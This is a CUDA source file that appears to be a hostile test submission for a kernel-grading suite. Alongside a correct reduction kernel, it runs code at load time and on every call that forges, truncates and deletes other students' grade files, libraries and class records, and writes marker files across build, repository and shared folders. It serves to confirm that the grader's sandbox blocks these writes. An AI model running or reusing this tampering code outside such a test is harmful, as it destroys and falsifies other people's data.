// Example submission (issue 32, the executor's trust boundary): the correct K3 (correct.cu) that, when
// its library loads and then in its calls (one sweep a second at most: it does not slow its own
// timing), tampers with everything it can reach on the grading machine:
//   - the other students' grades: it finds the batch from its own library's path (dladdr:
//     <out>/<student>/lib/libsubmission.so), walks <out> and two folders above it (other batches,
//     other grading runs: a student folder is one holding build.json or traits.json) and, in every
//     student folder but its own, overwrites (O_TRUNC), renames and unlinks results.json,
//     summary.json, report.md, traits.json, build.json, compile.log, run/units/* and
//     lib/libsubmission.so, and beside them class.csv and rubric.json;
//   - the suite: the build tree above /proc/self/exe, above every ancestor's /proc/<pid>/exe (the
//     runner, ctest), above every file in /proc/self/maps and above its library (the folder holding
//     CMakeCache.txt), and the repository above that; /tmp, /dev/shm, $HOME, $TMPDIR and the home of
//     the account that owns <out>.
// In every folder it walks it creates a file named KCONFORM_TAMPERED (its proof of a write; in the
// suite's trees and the shared folders that is all it writes, so that a grader without the boundary
// loses its grades, which the next run makes again, and not a developer's build). Its own scratch
// folder (its working directory in the executor, which it may write) gets no marker.
// Before issue 32 it ran in the grading process, as the grading user: every neighbour's grade and
// the suite's build were its to rewrite. Now its entry points run in the executor, started as uid
// 65534 under Landlock (it may read only the system folders and its own library's folder, write only
// its scratch folder): every open for writing, rename, unlink and create above is refused; the grade
// files are written by the grader's own processes, outside it. tests/submissions/check_examples.sh and
// check_neighbours.sh (with neighbours/writes_into_neighbours.cu, the matmul twin) look for
// KCONFORM_TAMPERED under the out folder, the suite's build, the repository, /tmp and /dev/shm.
// Expected: passed, 100 (it gains nothing and loses nothing: every refusal is checked and passed by).
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

#include "kconform_reduction_submission.h"

__global__ void sequential_addressing(const float* in, float* out, size_t n) {
  extern __shared__ float partial[];
  const unsigned tid = threadIdx.x;
  const size_t i = static_cast<size_t>(blockIdx.x) * blockDim.x + tid;
  partial[tid] = i < n ? in[i] : 0.0f;
  __syncthreads();
  for (unsigned s = blockDim.x / 2; s > 0; s >>= 1) {
    if (tid < s) partial[tid] += partial[tid + s];
    __syncthreads();
  }
  if (tid == 0) out[blockIdx.x] = partial[0];
}

namespace {

// ---- the tampering (the same in neighbours/writes_into_neighbours.cu: a submission is one file) ----
struct tamperer {
  std::string scratch, own_student;
  std::set<std::string> visited;

  static std::string parent(const std::string& p) {
    const auto slash = p.find_last_of('/');
    return slash == std::string::npos || slash == 0 ? "/" : p.substr(0, slash);
  }
  static std::string real(const std::string& p) {
    char resolved[PATH_MAX];
    return ::realpath(p.c_str(), resolved) != nullptr ? resolved : "";
  }
  static bool exists(const std::string& p) { return ::access(p.c_str(), F_OK) == 0; }
  static bool under(const std::string& p, const std::string& root) {
    return !root.empty() && (p == root || p.rfind(root == "/" ? root : root + "/", 0) == 0);
  }

  void mark(const std::string& dir) {
    const int flags = O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC | O_NOFOLLOW;
    const int fd = ::open((dir + "/KCONFORM_TAMPERED").c_str(), flags, 0644);
    if (fd < 0) return;
    const char line[] = "writes_into_neighbours was here\n";
    (void)!::write(fd, line, sizeof line - 1);
    ::close(fd);
  }
  // Overwritten, renamed, unlinked: each tried, whatever the one before did.
  static void wreck(const std::string& file) {
    const int fd = ::open(file.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC | O_NOFOLLOW);
    if (fd >= 0) {
      const char forged[] = "{\"score\": 0, \"verdict\": \"tampered\"}\n";
      (void)!::write(fd, forged, sizeof forged - 1);
      ::close(fd);
    }
    if (::rename(file.c_str(), (file + ".tampered").c_str()) == 0) ::unlink((file + ".tampered").c_str());
    else ::unlink(file.c_str());
  }
  void wreck_student(const std::string& dir) {
    for (const char* name : {"results.json", "summary.json", "report.md", "traits.json", "build.json", "compile.log",
                             "lib/libsubmission.so", "lib/submission.o"})
      wreck(dir + "/" + name);
    if (DIR* d = ::opendir((dir + "/run/units").c_str())) {
      while (const dirent* e = ::readdir(d))
        if (e->d_name[0] != '.') wreck(dir + "/run/units/" + e->d_name);
      ::closedir(d);
    }
    for (const char* name : {"class.csv", "rubric.json"}) wreck(parent(dir) + "/" + name);
  }
  // Markers in every folder down to `depth`; with `grades`, the student folders met are wrecked.
  void walk(const std::string& dir, int depth, bool grades) {
    if (dir.empty() || depth < 0 || under(dir, scratch) || !visited.insert(dir).second) return;
    mark(dir);
    if (grades && dir != own_student && (exists(dir + "/build.json") || exists(dir + "/traits.json"))) wreck_student(dir);
    DIR* d = ::opendir(dir.c_str());
    if (d == nullptr) return;
    while (const dirent* e = ::readdir(d)) {
      const std::string name = e->d_name, path = (dir == "/" ? "" : dir) + "/" + name;
      struct stat st;
      if (name != "." && name != ".." && ::lstat(path.c_str(), &st) == 0 && S_ISDIR(st.st_mode))
        walk(path, depth - 1, grades);
    }
    ::closedir(d);
  }
  // The suite's build above a path (the folder holding CMakeCache.txt), and the repository above it.
  void suite_above(std::string path) {
    for (path = parent(path); path != "/"; path = parent(path))
      if (exists(path + "/CMakeCache.txt")) {
        walk(path, 2, false);
        for (std::string up = parent(path); up != "/"; up = parent(up))
          if (exists(up + "/.git") || exists(up + "/scripts/grade.sh")) {
            walk(up, 1, false);
            break;
          }
        return;
      }
  }

  void sweep() {
    visited.clear();
    Dl_info info;
    std::string library;
    if (::dladdr(reinterpret_cast<const void*>(&sequential_addressing), &info) != 0 && info.dli_fname != nullptr)
      library = real(info.dli_fname);
    own_student = library.empty() ? "" : parent(parent(library));
    char cwd[PATH_MAX];
    scratch = ::getcwd(cwd, sizeof cwd) != nullptr ? real(cwd) : "";
    if (scratch == "/" || under(own_student, scratch)) scratch.clear();  // that working folder is no scratch of its own
    if (!own_student.empty()) {
      walk(own_student, 3, true);  // its own folder: markers only (wreck_student skips it)
      std::string top = parent(own_student);
      for (int up = 0; up < 2 && top != "/"; ++up) top = parent(top);
      walk(top, 5, true);
      suite_above(library);
    }
    suite_above(real("/proc/self/exe"));
    pid_t pid = ::getppid();
    for (int level = 0; pid > 1 && level < 6; ++level) {
      const std::string proc = "/proc/" + std::to_string(pid);
      suite_above(real(proc + "/exe"));
      char stat_line[512] = {};
      const int fd = ::open((proc + "/stat").c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) break;
      (void)!::read(fd, stat_line, sizeof stat_line - 1);
      ::close(fd);
      const char* close_paren = std::strrchr(stat_line, ')');
      if (close_paren == nullptr) break;
      pid = static_cast<pid_t>(std::atol(close_paren + 4));
    }
    if (FILE* maps = std::fopen("/proc/self/maps", "re")) {
      std::set<std::string> folders;
      char line[4096];
      while (std::fgets(line, sizeof line, maps) != nullptr)
        if (const char* path = std::strchr(line, '/')) folders.insert(parent(std::string(path, std::strcspn(path, "\n"))));
      std::fclose(maps);
      for (const std::string& folder : folders) suite_above(folder + "/x");
    }
    std::set<std::string> shared = {"/tmp", "/dev/shm"};
    for (const char* variable : {"HOME", "TMPDIR"})
      if (const char* value = std::getenv(variable); value != nullptr && *value != '\0') shared.insert(value);
    struct stat st;
    if (!own_student.empty() && ::stat(parent(own_student).c_str(), &st) == 0)
      if (const passwd* owner = ::getpwuid(st.st_uid); owner != nullptr && owner->pw_dir != nullptr)
        shared.insert(owner->pw_dir);
    for (const std::string& folder : shared) walk(real(folder), 1, false);
  }

  void sweep_at_most_once_a_second() {
    static auto last = std::chrono::steady_clock::time_point{};
    const auto now = std::chrono::steady_clock::now();
    if (last != std::chrono::steady_clock::time_point{} && now - last < std::chrono::seconds(1)) return;
    last = now;
    sweep();
  }
};

tamperer& the_tamperer() {
  static tamperer* t = new tamperer;  // never destroyed: a call may come during the process's exit
  return *t;
}

struct at_load {
  at_load() { the_tamperer().sweep_at_most_once_a_second(); }
} const tampered_at_load;

}  // namespace

kc_reduction_traits kc_reduction_submission_traits(void) {
  kc_reduction_traits t = {};
  t.abi = KC_SUBMISSION_ABI;
  t.kind = KC_REDUCE_PASS;
  t.min_block = 32;
  t.max_block = 1024;
  t.power_of_two_blocks = 1;
  t.block_multiple = 1;
  t.elements_per_thread = 1;
  return t;
}

const char* kc_reduction_pass(float* in, float* out, size_t n, int block, int grid, cudaStream_t stream) {
  the_tamperer().sweep_at_most_once_a_second();
  sequential_addressing<<<grid, block, block * sizeof(float), stream>>>(in, out, n);
  return nullptr;
}

size_t kc_reduction_scratch_floats(size_t, int) { return 0; }
const char* kc_reduction_full(float*, float*, size_t, int, float*, cudaStream_t) { return "a KC_REDUCE_PASS submission"; }
